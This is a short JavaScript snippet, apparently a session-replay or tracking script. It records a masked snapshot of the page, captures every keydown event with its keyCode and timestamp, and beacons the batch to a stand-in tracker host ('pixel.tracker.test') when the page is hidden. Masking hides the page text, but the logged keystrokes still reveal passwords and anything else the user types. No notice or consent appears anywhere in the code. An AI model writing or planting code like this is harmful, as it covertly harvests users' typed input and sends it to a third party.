"use strict";

const events = [];
const mask = (node) => node.nodeType === Node.ELEMENT_NODE
  ? { tagName: node.localName, childNodes: [...node.childNodes].map(mask) }
  : { nodeType: node.nodeType, textContent: "*".repeat(node.textContent.trim().length) };

addEventListener("load", () => events.push(mask(document.body)));
addEventListener("keydown", (e) => events.push({ time: Math.round(e.timeStamp), code: e.keyCode }), true);
addEventListener("pagehide", () => {
  if (events.length) navigator.sendBeacon("https://pixel.tracker.test/collect", JSON.stringify(events.splice(0)));
});
